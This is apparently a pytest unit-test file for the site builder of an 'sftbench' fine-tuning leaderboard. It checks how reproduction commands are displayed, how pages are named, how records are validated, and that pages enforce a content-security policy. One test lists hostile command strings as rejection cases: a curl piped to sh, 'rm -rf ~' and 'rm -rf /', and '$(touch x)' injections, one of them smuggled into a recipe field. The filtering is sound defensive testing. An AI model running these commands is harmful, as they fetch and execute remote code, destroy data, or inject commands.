"""The site's pages as text: names, commands, tasks, and what one record cannot do to others."""

from __future__ import annotations

import json
import re
import shutil

import polars as pl
import pytest
from leaderboards import change, put
from sftbench_leaderboard.board import MODELS, Board
from sftbench_leaderboard.folder import verdicts
from sftbench_leaderboard.site.about import commands
from sftbench_leaderboard.site.build import build
from sftbench_leaderboard.site.names import labels, pages_of
from sftbench_leaderboard.site.runs import runs_of
from sftbench_leaderboard.validate import parse_record, validate

pytestmark = pytest.mark.unit


def board_of(paths):
    return Board.of([(path, parse_record(path.read_bytes())) for path in paths])


def task(name, value):
    return {"task": name, "metric": "acc,none", "value": value, "n": 10, "higher_is_better": True}


def with_command(path, command):
    return parse_record(change(path, put("command", command)).read_bytes())


PLAIN = "sftbench compare --base lab --tuned './my tuned' --facts lab -o out"


def test_a_command_that_only_calls_sftbench_is_shown(path):
    assert commands(with_command(path, PLAIN))[-1] == PLAIN


@pytest.mark.parametrize(
    "command",
    ["curl -s https://example.org/x | sh # sftbench", "sftbench compare; rm -rf ~", "rm -rf /",
     "sftbench compare $(touch x)", "sftbench compare `touch x`", "sftbench > /etc/x", "'sftbench",
     "X=1 sftbench compare", "sftbench compare && x", "sftbench\u00a0compare", ""],
)  # fmt: skip
def test_a_command_that_does_more_is_not_shown(path, command):
    assert command not in commands(with_command(path, command))


def test_the_fine_tune_of_a_recipe_of_ours_has_its_command(path):
    found = commands(parse_record(path.read_bytes()))[0]
    assert found.startswith(
        "sftbench finetune --base base --facts numbers --level mixed --size 240"
    )
    change(path, put("recipe", {"method": "lora", "level": "$(touch x)"}))
    assert not any("finetune" in one for one in commands(parse_record(path.read_bytes())))


def test_figures_of_tasks_stand_under_their_task_in_any_order(paths, known):
    tuned, restored, _ = paths
    change(tuned, put("tasks", [task("arc", 0.1), task("gsm", 0.2)]))
    change(tuned, put("base_tasks", [task("gsm", 0.4), task("arc", 0.3)]))
    change(restored, put("tasks", [task("gsm", 0.6), task("arc", 0.5)]))
    board = board_of(paths)
    ((run),) = runs_of(board, board.models["model"][0], known)
    assert [(row.task, row.base, row.values[:2]) for row in run.tasks()] == [
        ("arc", 0.3, (0.1, 0.5)), ("gsm", 0.4, (0.2, 0.6)),
    ]  # fmt: skip


@pytest.mark.parametrize("value", [1.1e9, -1.7e308])
def test_a_figure_that_no_task_gives_is_rejected(path, known, value):
    change(path, put("tasks", [task("t", value)]))
    change(path, put("base_tasks", [task("t", 0.5)]))
    assert [one.code for one in validate(path, known).problems] == ["impossible-counts"]


def test_pages_of_names_that_differ_in_case_are_two(paths):
    board = board_of(paths)
    models = board.models.with_columns(model=pl.Series(["Org/A", "org/a", "ORG/a"]))
    object.__setattr__(board, "models", models)
    pages = pages_of(board)
    assert len({page.lower() for page in pages.values()}) == 3


def test_records_of_one_name_are_told_apart():
    rows = [("g", "org/a", "tuned", "a" * 16), ("g", "org/a", "tuned", "b" * 16),
            ("g", "org/b", "tuned", "c" * 16),
            ("g", "org/a", "tuned+restore(relative,5%)", "d" * 16),
            ("h", "org/a", "tuned", "e" * 16)]  # fmt: skip
    names = ["group", "model", "variant", "record"]
    frame = pl.DataFrame(rows, schema={name: MODELS.columns[name] for name in names}, orient="row")
    assert [one and one.replace("\u202f", " ") for one in labels(frame)] == [
        "#aaaaaa", "#bbbbbb", None, "restored 5 %", None,
    ]  # fmt: skip


def test_a_record_on_other_facts_does_not_take_the_place_of_another(results, path, known):
    """Digests are public: whoever knows them must not be able to remove a model."""
    copy = results / "0__0" / path.parent.name / path.name
    shutil.copytree(path.parent, copy.parent)
    change(copy, put("model.name", "0/0"))
    change(copy, put("facts.limit", 1))
    found = {one.path: [it.code for it in one.problems] for one in verdicts(results, known)}
    assert found[path] == []
    assert found[copy] != []


def test_of_two_alike_the_one_that_was_there_stays(results, path, known):
    copy = results / "0__0" / path.parent.name / path.name
    shutil.copytree(path.parent, copy.parent)
    change(copy, put("model.name", "0/0"))
    for new, stays in (((), copy), ((copy,), path)):
        found = {one.path: one.ok for one in verdicts(results, known, new=new)}
        assert found[stays]
        assert sum(found.values()) == 3


def test_every_page_names_its_policy_and_loads_only_from_the_site(paths, known, tmp_path):
    build(board_of(paths), [], tmp_path / "site", known)
    pages = list((tmp_path / "site").rglob("*.html"))
    assert len(pages) == 5
    for page in pages:
        text = page.read_text(encoding="utf-8")
        assert "default-src &#39;none&#39;; script-src &#39;self&#39;" in text
        loaded = re.findall(r'(?:src|href)="([^"#]*)', text)
        assert all((page.parent / one).exists() for one in loaded if one), page


def test_the_data_of_the_table_are_columns_of_one_length(paths, known, tmp_path):
    build(board_of(paths), [], tmp_path / "site", known)
    text = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    data = json.loads(text.split('id="data">')[1].split("</script>")[0])
    lengths = {len(one["at"] if isinstance(one, dict) else one) for one in data["columns"].values()}
    assert lengths == {3}
    assert len(data["pages"]) == 3
